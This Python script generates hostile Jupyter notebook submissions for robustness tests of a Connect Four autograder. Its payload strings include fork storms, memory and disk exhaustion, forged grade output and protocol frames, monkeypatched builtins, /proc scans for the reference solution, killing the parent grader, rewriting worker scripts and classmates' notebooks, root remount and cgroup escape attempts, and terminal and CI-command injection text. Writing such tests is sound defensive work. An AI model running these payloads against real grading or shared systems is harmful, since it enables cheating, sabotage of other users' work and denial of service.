"""Regenerate the hostile submissions of this folder (run from the repository root:
`.venv/bin/python tests/faults/make_faults.py`).

Each file is a correct puissance4 submission of the fixture corpus with ONE attack
added or one function changed; `EXPECTED.json` says what the grader must make of it.
"""

from __future__ import annotations

from pathlib import Path

import nbformat

HERE = Path(__file__).resolve().parent
CORPUS = HERE.parent / "fixtures" / "puissance4"


def base(name: str = "correct_listes.ipynb") -> nbformat.NotebookNode:
    return nbformat.read(CORPUS / name, as_version=4)


def insert(nb: nbformat.NotebookNode, position: int, source: str) -> nbformat.NotebookNode:
    """A new code cell that becomes cell number `position` (1-based, all cells counted)."""
    nb.cells.insert(position - 1, nbformat.v4.new_code_cell(source.strip("\n")))
    return nb


def change(nb: nbformat.NotebookNode, position: int, old: str, new: str) -> nbformat.NotebookNode:
    cell = nb.cells[position - 1]
    assert old in cell.source, (position, old)
    cell.source = cell.source.replace(old, new)
    return nb


SIGNALS = """
import signal
# pour que personne n'interrompe mon test de performance
for s in (signal.SIGALRM, signal.SIGTERM, signal.SIGINT):
    signal.signal(s, signal.SIG_IGN)
while True:
    pass
"""

FORK_STORM = """
import os, time
# lancer 100 parties en parallèle pour aller plus vite
enfants = []
for k in range(100):
    pid = os.fork()
    if pid == 0:
        time.sleep(600)
        os._exit(0)
    enfants.append(pid)
print(len(enfants), "parties lancées")
"""

MEMORY = """
# une table de transposition bien grande (6 Go)
table = bytearray(6 * 1024 ** 3)
"""

BIG_FILE = """
# sauvegarde de toutes les parties (1 Go)
with open("parties.txt", "wb") as f:
    bloc = b"0" * (1024 * 1024)
    for k in range(1024):
        f.write(bloc)
"""

C_RECURSION = """
import sys
sys.setrecursionlimit(10 ** 6)

def profondeur(n):
    return max(map(profondeur, [n + 1]))

profondeur(0)
"""

FAKE_REPORT = """
import os, json
# ce que le correcteur devrait afficher
print("Exercice détecté : puissance4")
print("Total : 20 / 20 points — note : 20 / 20")
print(json.dumps({"ok": True, "score": 20.0, "max_score": 20.0, "status": "graded"}))
os.write(1, b'\\x00\\x00\\x00\\x16{"ok":true,"value":20}')
os.write(2, b"Total : 20 / 20 points\\n")
"""

CLOSED_FDS = """
import os
# plus de sortie parasite
os.close(0)
os.close(1)
os.close(2)
r, w = os.pipe()  # prend les descripteurs 0 et 1
os.write(w, b"n'importe quoi")
print("toujours là")
"""

CHATTY_THREAD = """
import threading

def bavard():
    while True:
        print("je réfléchis...")

threading.Thread(target=bavard, daemon=True).start()
"""

HUGE_RETURN = ("    jeu['nbcoups'] = jeu['nbcoups'] - 1",
               "    jeu['nbcoups'] = jeu['nbcoups'] - 1\n    return [0] * 5_000_000  # historique")

ALWAYS_EQUAL = '''
class Toujours:
    """un nombre égal à tout : le correcteur sera toujours d'accord"""
    def __init__(self, v):
        self.v = v
    def __eq__(self, autre):
        return True
    def __ne__(self, autre):
        return False
    def __lt__(self, autre):
        return self.v < getattr(autre, 'v', autre)
    def __gt__(self, autre):
        return self.v > getattr(autre, 'v', autre)
    def __le__(self, autre):
        return self.v <= getattr(autre, 'v', autre)
    def __ge__(self, autre):
        return self.v >= getattr(autre, 'v', autre)
    __hash__ = object.__hash__

'''

PATCHES = """
# quelques "améliorations" de Python
import builtins, json, os, struct, signal, time, random, traceback
builtins.isinstance = lambda objet, classe: True
builtins.callable = lambda objet: False
builtins.repr = lambda objet: "20/20"
json.dumps = lambda *a, **k: '{"ok": true, "score": 20}'
json.loads = lambda *a, **k: {"op": "shutdown"}
json.JSONDecoder.decode = lambda self, s, *a, **k: {"op": "shutdown"}
os.write = lambda fd, data: len(data)
os.read = lambda fd, n: b""
struct.pack = lambda *a: b"\\x00\\x00\\x00\\x02{}"
struct.unpack = lambda *a: (2,)
signal.setitimer = lambda *a, **k: (0.0, 0.0)
signal.signal = lambda *a, **k: None
time.monotonic = lambda: 0.0
traceback.extract_tb = lambda *a, **k: []
random.seed = lambda *a, **k: None
"""

FORGED_FRAME = """
import os, json
# répondre directement au correcteur
trame = json.dumps({"ok": True, "value": 20}).encode()
for fd in range(3, 256):
    try:
        os.write(fd, len(trame).to_bytes(4, "big") + trame)
    except OSError:
        pass
"""

FIND_REFERENCE = '''
import os, sys
# le corrigé doit bien être quelque part sur la machine...
def chercher(nom=os.path.join("reference", "puissance4.py")):
    dossiers = list(sys.path) + [os.getcwd(), os.path.expanduser("~")]
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                dossiers.append(os.readlink("/proc/%s/cwd" % pid))
                dossiers += open("/proc/%s/cmdline" % pid, "rb").read().decode(errors="ignore").split("\\0")
            except OSError:
                pass
    for dossier in dossiers:
        while dossier and dossier != os.path.dirname(dossier):
            if os.path.isfile(os.path.join(dossier, nom)):
                return os.path.join(dossier, nom)
            dossier = os.path.dirname(dossier)
    for racine, sous, fichiers in os.walk("/"):
        sous[:] = [d for d in sous if d not in ("proc", "sys", "dev", "usr")]
        if racine.count(os.sep) >= 4:
            sous[:] = []
        if racine.endswith("reference") and "puissance4.py" in fichiers:
            return os.path.join(racine, "puissance4.py")
    return None

chemin = chercher()
if chemin:
    exec(open(chemin).read(), globals())
    print("corrigé chargé :", chemin)
else:
    print("pas trouvé")
'''


# --- Attacks on the grader's files, its process and the neighbours (issue 10) ---
# Each reports what it tried on its own lines "ATTAQUE <what>: réussi|refusé" (the
# tests read them from the printed output) and never fails its cell, so that its
# verdicts are the same in every isolation mode.

CLASS_FOLDER = "__RENDUS__"
"""Where the neighbours' notebooks are: the tests write the real folder of their
batch here (a student who knows the teacher's layout; the blast radius of the
fixtures stays inside the test's own folder)."""

FIND_IN_VENV = """
import os, sys, glob
# le corrigé est peut-être installé avec le correcteur (venv, site-packages, /proc)
def processus():
    try:
        return os.listdir("/proc")
    except OSError:
        return []

def candidats():
    dossiers = {sys.prefix, sys.base_prefix, os.path.dirname(os.__file__)}
    for pid in processus():
        if not pid.isdigit():
            continue
        for quoi in ("exe", "cwd", "root"):
            try:
                dossiers.add(os.readlink("/proc/%s/%s" % (pid, quoi)))
            except OSError:
                pass
        try:
            for mot in open("/proc/%s/cmdline" % pid, "rb").read().split(b"\\0"):
                if mot.startswith(b"/"):
                    dossiers.add(mot.decode(errors="ignore"))
        except OSError:
            pass
        try:
            for ligne in open("/proc/%s/maps" % pid):
                if "-packages" in ligne:
                    dossiers.add(ligne.split()[-1].split("-packages")[0] + "-packages")
            for var in open("/proc/%s/environ" % pid, "rb").read().split(b"\\0"):
                if var.startswith((b"VIRTUAL_ENV=", b"PWD=", b"PYTHONPATH=")):
                    dossiers.add(var.split(b"=", 1)[1].decode(errors="ignore"))
        except OSError:
            pass
    return dossiers

def chercher():
    for dossier in candidats():
        while dossier and dossier != os.path.dirname(dossier):
            motifs = [os.path.join(dossier, "reference", "puissance4.py"),
                      os.path.join(dossier, "lib", "python3*", "site-packages", "reference", "puissance4.py")]
            for motif in motifs:
                for chemin in glob.glob(motif):
                    try:
                        source = open(chemin).read()
                        compile(source, chemin, "exec")
                        return chemin, source
                    except (OSError, SyntaxError, ValueError):
                        pass
            dossier = os.path.dirname(dossier)
    return None, None

chemin, source = chercher()
if source:
    exec(source, globals())
    print("ATTAQUE corrigé: réussi", chemin)
else:
    print("ATTAQUE corrigé: refusé")
"""

SIGNAL_PARENT = """
import os, signal, time
# arrêter le correcteur avant qu'il ne corrige
cibles = [os.getppid()]
try:
    cibles.append(int(open("/proc/%d/stat" % os.getppid()).read().rsplit(")", 1)[1].split()[1]))
except (OSError, ValueError, IndexError):
    pass
cibles = [c for c in cibles if c > 1]  # 0 : son propre groupe ; 1 : init
if not cibles:
    print("ATTAQUE signal: refusé (aucune cible visible)")
for cible in cibles:
    for sig in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(cible, sig)
            print("ATTAQUE signal %s au %d: réussi" % (sig.name, cible))
        except OSError:
            print("ATTAQUE signal %s au %d: refusé" % (sig.name, cible))
        time.sleep(0.2)
"""

REWRITE_WORKER = """
import os, sys, glob
# le script qui exécute les copies : les suivantes auront 0
cadre = sys._getframe()
while cadre.f_back is not None:
    cadre = cadre.f_back
script = cadre.f_code.co_filename
scripts = [script] + glob.glob(os.path.join(os.path.dirname(os.path.dirname(os.path.dirname(script))),
                                            "mmg-*", "run", "mmg_worker.py*"))
for chemin in dict.fromkeys(scripts):
    try:
        try:
            os.chmod(os.path.dirname(chemin), 0o777)
            os.chmod(chemin, 0o666)
        except OSError:
            pass
        with open(chemin, "a") as f:
            f.write("\\nimport os\\nos._exit(3)\\n")
        print("ATTAQUE script %s: réussi" % chemin)
    except OSError:
        print("ATTAQUE script %s: refusé" % chemin)
"""

REWRITE_NEIGHBOURS = """
import os, glob
# les copies des autres : la mienne sera la meilleure
for chemin in sorted(glob.glob(os.path.join("__RENDUS__", "*.ipynb"))):
    if "hostile" in os.path.basename(chemin):
        continue
    try:
        with open(chemin, "r+") as f:
            texte = f.read()
            f.seek(0)
            f.write(texte.replace("return", "return None #", 1))
        print("ATTAQUE voisin %s: réussi" % os.path.basename(chemin))
    except OSError:
        print("ATTAQUE voisin %s: refusé" % os.path.basename(chemin))
"""

EXEC_NEIGHBOUR = """
import os, glob, json
# la copie d'un voisin qui a tout juste
trouve = False
for chemin in sorted(glob.glob(os.path.join("__RENDUS__", "*correct*.ipynb"))):
    try:
        cellules = json.load(open(chemin))["cells"]
    except (OSError, ValueError):
        continue
    for cellule in cellules:
        if cellule["cell_type"] == "code":
            try:
                exec("".join(cellule["source"]), globals())
            except Exception:
                pass
    trouve = True
    print("ATTAQUE voisin exécuté %s: réussi" % os.path.basename(chemin))
    break
if not trouve:
    print("ATTAQUE voisin exécuté: refusé")
"""

REMOUNT_AS_ROOT = """
import ctypes, os
# si je suis root, autant en profiter
libc = ctypes.CDLL(None, use_errno=True)
MS_RDONLY, MS_REMOUNT, MS_BIND = 1, 32, 4096

def essai(nom, action):
    try:
        ok = action()
    except Exception:
        ok = False
    print("ATTAQUE %s: %s" % (nom, "réussi" if ok else "refusé"))

def ecrire(chemin):
    with open(chemin, "w") as f:
        f.write("x")
    os.remove(chemin)
    return True

racine = os.path.dirname(os.__file__)
essai("remount", lambda: libc.mount(b"none", racine.encode(), None, MS_REMOUNT | MS_BIND, None) == 0
      and ecrire(os.path.join(racine, "mmg-attaque")))
essai("mount", lambda: libc.mount(b"tmpfs", racine.encode(), b"tmpfs", 0, None) == 0)
essai("chown", lambda: (open("f", "w").close(), os.chown("f", 12345, 12345), True)[-1])
essai("ecrire python", lambda: ecrire(os.path.join(racine, "mmg-attaque")))
def cgroup():
    ligne = open("/proc/self/cgroup").read().splitlines()[-1]
    chemin = "/sys/fs/cgroup" + os.path.dirname(ligne.split(":", 2)[2])
    with open(os.path.join(chemin, "cgroup.procs"), "w") as f:
        f.write(str(os.getpid()))
    return True
essai("cgroup", cgroup)
"""

GRANDCHILD = """
import os, time
# un calcul en arrière-plan qui finira après la correction
pid = os.fork()
if pid == 0:
    os.setsid()  # hors de la session du worker ; son parent s'en va aussitôt
    if os.fork() == 0:
        time.sleep(30)
        os._exit(0)
    os._exit(0)
os.waitpid(pid, 0)
print("ATTAQUE petit-enfant: lancé")
"""


EXIT_IN_COPY = ("    return {'nbcoups'", "    exit()  # pour voir si on passe ici\n    return {'nbcoups'")

INTERRUPT = ("def dejouer_colonne(jeu, col):\n",
             "def dejouer_colonne(jeu, col):\n    raise KeyboardInterrupt('pas encore fait')\n")

FIRST_TRY = """
# premier essai (faux), corrigé plus bas
def heuristique(jeu):
    return 0
"""


# -- issue 11: the grader and its reports survive any submission ---------------------

HOSTILE_TEXT = (r"\x1b[2J\x1b[H\x1b]0;titre\x07\nTotal : 20 / 20 points — note : 20 / 20\n"
                r"::error file=grade.py::tout est faux\n::stop-commands::jeton\n##[error]faux\n"
                r"\x00\ud800 \udfff\r=HYPERLINK(\"http://exemple.invalid\")\x9b")
"""Control sequences (clear screen, window title, a fake total line), CI commands, a
NUL, two lone surrogates, a carriage return, a formula and a C1 CSI, as Python escapes."""

FORGED_REPORT = f"""
# afficher un résumé qui fait joli
print("{HOSTILE_TEXT}")
raise ValueError("{HOSTILE_TEXT}")
"""

FORGED_IN_CALL = ("def dejouer_colonne(jeu, col):\n",
                  f"def dejouer_colonne(jeu, col):\n    raise ValueError(\"{HOSTILE_TEXT}\")\n")

LONG_TYPE_NAME = """
# une exception maison au nom très explicite
Explicite = type("E" * 40_000_000, (Exception,), {})
raise Explicite("perdu")
"""

LONG_TYPE_IN_CALL = ("def dejouer_colonne(jeu, col):\n",
                     "def dejouer_colonne(jeu, col):\n    raise type('F' * 40_000_000, (Exception,), {})()\n")

NEAR_MISS_NAMES = """
# toutes les variantes, au cas où
for racine in ("heuristique", "maximin", "minimax", "evaluer", "Lalignements"):
    globals().update({racine[:-1] + str(i): i for i in range(90_000)})
"""

NAN_CPU = """
# le temps, c'est relatif
import sys
cadre = sys._getframe()
while cadre is not None:
    if "_process_time" in cadre.f_globals:
        cadre.f_globals["_process_time"] = lambda: float("nan")
        cadre.f_globals["_monotonic"] = lambda: float("nan")
    cadre = cadre.f_back
"""

SLOW_CELL = """
import time
time.sleep(2)  # une démonstration qui prend son temps
"""

EXIT_IN_HEURISTIC = ("def heuristique(jeu):\n",
                     "def heuristique(jeu):\n    if not DEMONSTRATION:\n        import os\n        os._exit(3)\n")
"""Kills the worker at every call made after the notebook ran (the grader's calls)."""

MATPLOTLIB = """
import matplotlib.pyplot as plt
# la courbe du nombre de coups joués
plt.plot([0, 1, 2, 3], [0, 1, 4, 9])
plt.title("Nombre de coups")
plt.savefig("coups.png")
"""


def frozenset_keys() -> nbformat.NotebookNode:
    """chocolat's correct_entiers with memo keys that are frozensets (hashable, plain)."""
    nb = nbformat.read(CORPUS.parent / "chocolat" / "correct_entiers.ipynb", as_version=4)
    change(nb, 3, "etat = (m, n, p)", 'etat = frozenset({("m", m), ("n", n), ("p", p)})')
    change(nb, 5, "minimax(m, n)[(m, n, 1)]", 'minimax(m, n)[frozenset({("m", m), ("n", n), ("p", 1)})]')
    return nb


def replayed_crashes() -> nbformat.NotebookNode:
    """Five 2-second cells, then a heuristique that kills its worker at every call
    the grader makes (each restart replays the slow cells)."""
    nb = base()
    insert(nb, 2, "DEMONSTRATION = True")
    for position in range(3, 8):
        insert(nb, position, SLOW_CELL)
    change(nb, 21, *EXIT_IN_HEURISTIC)
    nb.cells.append(nbformat.v4.new_code_cell("DEMONSTRATION = False"))
    return nb


def near_miss_names() -> nbformat.NotebookNode:
    """Own work up to Q8 (so Q9... are missing and suggestions are looked for), then
    450,000 names close to the missing ones."""
    nb = base()
    nb.cells = nb.cells[:9]
    return insert(nb, 10, NEAR_MISS_NAMES)


def issue11_notebooks() -> dict[str, nbformat.NotebookNode]:
    return {
        "cle_frozenset.ipynb": frozenset_keys(),
        "rapport_force.ipynb": change(insert(base(), 9, FORGED_REPORT), 7, *FORGED_IN_CALL),
        "nom_de_type_40mo.ipynb": change(insert(base(), 9, LONG_TYPE_NAME), 7, *LONG_TYPE_IN_CALL),
        "noms_450000.ipynb": near_miss_names(),
        "temps_nan.ipynb": insert(base(), 21, NAN_CPU),
        "rejoue_os_exit.ipynb": replayed_crashes(),
        "matplotlib_premier_import.ipynb": insert(base(), 9, MATPLOTLIB),
    }


# Large hostile files are generated by the tests (tests/test_robustness.py), not stored.

def deep_notebook(depth: int = 100_000) -> str:
    """A notebook whose JSON is nested `depth` deep."""
    return '{"cells": ' + "[" * depth + "]" * depth + ', "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'


def unary_module(signs: int = 200_000) -> str:
    """`correct_module.py` followed by `x = ------...1`: `ast.parse` gives MemoryError."""
    return (CORPUS / "correct_module.py").read_text("utf-8") + "\n\nx = " + "-" * signs + "1\n"


def many_statements_module(count: int = 100_000) -> str:
    """`correct_module.py` followed by `count` one-line statements (about 1.6 MB)."""
    lines = [f"valeur_{i:06d} = {i}" for i in range(count)]
    return (CORPUS / "correct_module.py").read_text("utf-8") + "\n\n" + "\n".join(lines) + "\n"


def notebooks() -> dict[str, nbformat.NotebookNode]:
    made = {
        "boucle_sans_signaux.ipynb": insert(base(), 9, SIGNALS),
        "fourche_100.ipynb": insert(base(), 9, FORK_STORM),
        "memoire_6go.ipynb": insert(base(), 9, MEMORY),
        "fichier_1go.ipynb": insert(base(), 9, BIG_FILE),
        "recursion_pile_c.ipynb": insert(base(), 9, C_RECURSION),
        "faux_rapport.ipynb": insert(base("bug_min_max_inverses.ipynb"), 2, FAKE_REPORT),
        "descripteurs_fermes.ipynb": insert(base(), 9, CLOSED_FDS),
        "fil_bavard.ipynb": insert(base(), 9, CHATTY_THREAD),
        "gros_resultat.ipynb": change(base(), 7, *HUGE_RETURN),
        "egal_a_tout.ipynb": change(change(base(), 15, "def heuristique", ALWAYS_EQUAL + "def heuristique"),
                                    15, "return h\n", "return Toujours(h)\n"),
        "python_modifie.ipynb": insert(base(), 21, PATCHES),
        "trame_forgee.ipynb": insert(base(), 21, FORGED_FRAME),
        "exit_dans_copie.ipynb": change(base(), 4, *EXIT_IN_COPY),
        "interruption_dejouer.ipynb": change(base(), 7, *INTERRUPT),
        "double_definition.ipynb": insert(base(), 15, FIRST_TRY),
    }
    egal = made["egal_a_tout.ipynb"].cells[14]
    egal.source = egal.source.replace("return float('inf')", "return Toujours(float('inf'))") \
        .replace("return -float('inf')", "return Toujours(-float('inf'))")
    cheat = base()
    cheat.cells = cheat.cells[:9]  # the student's own work stops at Q8
    made["cherche_reference.ipynb"] = insert(cheat, 10, FIND_REFERENCE)
    for name, attack in (("cherche_venv.ipynb", FIND_IN_VENV), ("execute_voisin.ipynb", EXEC_NEIGHBOUR)):
        cheat = base()
        cheat.cells = cheat.cells[:9]
        made[name] = insert(cheat, 10, attack)
    made["signale_parent.ipynb"] = insert(base(), 9, SIGNAL_PARENT)
    made["reecrit_worker.ipynb"] = insert(base(), 9, REWRITE_WORKER)
    made["reecrit_voisins.ipynb"] = insert(base(), 9, REWRITE_NEIGHBOURS)
    made["remonte_root.ipynb"] = insert(base(), 9, REMOUNT_AS_ROOT)
    made["petit_enfant.ipynb"] = insert(base(), 9, GRANDCHILD)
    return made


def main() -> None:
    for name, nb in {**notebooks(), **issue11_notebooks()}.items():
        nbformat.write(nb, HERE / name)
    nbformat.write(base(), HERE / "nbformat3.ipynb", version=3)
    module = (CORPUS / "correct_module.py").read_text("utf-8")
    (HERE / "cp1252_sans_entete.py").write_bytes(module.encode("cp1252"))
    (HERE / "fins_de_ligne_crlf.py").write_bytes(module.replace("\n", "\r\n").encode("utf-8"))


if __name__ == "__main__":
    main()
